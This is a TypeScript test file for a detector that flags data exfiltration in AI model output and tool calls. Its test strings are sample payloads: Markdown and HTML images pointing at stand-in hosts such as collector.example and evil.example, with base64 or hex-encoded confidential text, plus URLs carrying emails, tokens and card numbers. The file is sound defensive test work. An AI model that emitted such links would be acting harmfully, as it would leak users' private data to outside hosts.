import { describe, expect, it } from 'vitest';
import { createExfilDetector } from './exfil.js';
import { kinds, randomToken, run, textEvent, toolCall, toolResult } from './test-events.js';

const exfil = createExfilDetector({ allowedHosts: ['github.com', '*.githubusercontent.com', 'shields.io.'] });
const b64 = (s: string): string => Buffer.from(s).toString('base64url');

describe('exfil detector: images', () => {
  it('rates an unlisted image that carries data critical, with a span over its URL', () => {
    const url = `https://collector.example/p.png?d=${b64('the quarterly numbers are in the attached sheet')}`;
    const text = `Done! ![status](${url}) Anything else?`;
    const [f] = run(exfil, textEvent('model.output', text));
    expect(f?.kind).toBe('exfil.markdown-image');
    expect(f?.severity).toBe('critical');
    expect(f?.span && text.slice(f.span.start, f.span.end)).toBe(url);
    expect(f?.excerpt).toContain('collector.example');
    expect(f?.excerpt).toContain('encoded text');
  });

  it('rates an unlisted image without data high', () => {
    const found = run(exfil, textEvent('model.output', 'Here is a cat: ![cat](https://cats.example/cat.png)'));
    expect(found.map((f) => [f.kind, f.severity])).toEqual([['exfil.markdown-image', 'high']]);
  });

  it('treats a short cache-buster as no data and a long query value as data', () => {
    expect(run(exfil, textEvent('model.output', '![a](https://cdn.example/a.png?v=4)'))[0]?.severity).toBe('high');
    expect(run(exfil, textEvent('model.output', '![a](https://cdn.example/a.png?s=customer-list-q3-renewals)'))[0]?.severity).toBe('critical');
  });

  it('finds HTML images and reference-style Markdown images in tool results', () => {
    expect(kinds(exfil, toolResult('<p>hi</p><img width="1" src="https://evil.example/t.gif?u=42">'))).toEqual(['exfil.markdown-image']);
    expect(kinds(exfil, toolResult('See ![chart][c1].\n\n[c1]: https://evil.example/chart.png?q=1\n'))).toEqual(['exfil.markdown-image']);
  });

  it('allows listed hosts and their subdomains on a dot boundary only', () => {
    const ok = '![b](https://img.shields.io/badge/build-passing-green) ![a](https://avatars.githubusercontent.com/u/583231?v=4) ![r](https://github.com/octocat.png)';
    expect(run(exfil, textEvent('model.output', ok))).toEqual([]);
    expect(kinds(exfil, textEvent('model.output', '![x](https://evilgithub.com/a.png)'))).toEqual(['exfil.markdown-image']);
  });

  it('ignores image syntax in tool-call arguments and relative images', () => {
    expect(run(exfil, toolCall({ body: '![cat](https://cats.example/cat.png)' }))).toEqual([]);
    expect(run(exfil, textEvent('model.output', '![diagram](./docs/arch.png)'))).toEqual([]);
  });
});

describe('exfil detector: data in URLs', () => {
  it('finds an email address in a tool-call URL and names the argument', () => {
    const [f] = run(exfil, toolCall({ request: { url: 'https://collect.example/log?who=jane.doe@example.org' } }));
    expect([f?.kind, f?.severity, f?.arg]).toEqual(['exfil.url-data', 'high', 'request.url']);
    expect(f?.excerpt).not.toContain('jane');
  });

  it('finds credentials and card numbers in URLs', () => {
    const token = 'ghp' + '_' + randomToken(36, 5);
    expect(run(exfil, toolCall({ url: `https://paste.example/save?t=${token}` }))[0]?.severity).toBe('high');
    expect(run(exfil, toolCall({ url: 'https://paste.example/c/4111111111111111' }))[0]?.severity).toBe('high');
  });

  it('finds encoded text in a path segment and in a hex query value', () => {
    const hex = Buffer.from('ssh-rsa AAAA private notes for the deal').toString('hex');
    expect(run(exfil, toolCall({ url: `https://x.example/u/${b64('meeting notes: acquire Foo Corp in May')}/p.gif` }))[0]?.severity).toBe('high');
    expect(run(exfil, textEvent('model.output', `Visit https://x.example/?h=${hex} now.`))[0]?.kind).toBe('exfil.url-data');
  });

  it('rates a random blob or a long value in the query medium', () => {
    expect(run(exfil, toolCall({ url: `https://x.example/?sid=${randomToken(40, 9)}` }))[0]?.severity).toBe('medium');
    expect(run(exfil, toolCall({ url: `https://x.example/?q=${'word+'.repeat(30)}` }))[0]?.severity).toBe('medium');
  });

  it('does not report URLs in tool results, only images there', () => {
    expect(run(exfil, toolResult('Link: https://collect.example/log?who=jane.doe@example.org'))).toEqual([]);
  });

  it('stays silent on ordinary URLs', () => {
    const urls = [
      'https://github.com/octocat/Hello-World',
      'https://gitlab.example/group/proj/-/commit/3f9a1c2b7d4e5f60718293a4b5c6d7e8f9012345',
      'https://www.google.com/search?q=how+to+bake+sourdough+bread',
      'https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit',
      'https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s',
      'https://api.example.com/v1/users/550e8400-e29b-41d4-a716-446655440000?page=2&per_page=50',
      'https://shop.example/orders?from=2024-01-01&to=2024-03-31&sort=price',
      'https://cdn.example/assets/app.3f9a1c2b7d4e5f60718293a4b5c6d7e8.js',
    ];
    expect(run(exfil, toolCall({ urls }))).toEqual([]);
    expect(run(exfil, textEvent('model.output', `See ${urls.join(', ')}.`))).toEqual([]);
  });

  it('never throws on malformed or huge input', () => {
    expect(() => run(exfil, textEvent('model.output', 'http://[::zz]/ https://%%/ ![x](http://) ' + 'https://a.example/?'.repeat(100_000)))).not.toThrow();
    expect(run(exfil, textEvent('model.output', `https://x.example/?d=${'A'.repeat(3_000_000)}`)).length).toBeLessThanOrEqual(32);
  });
});
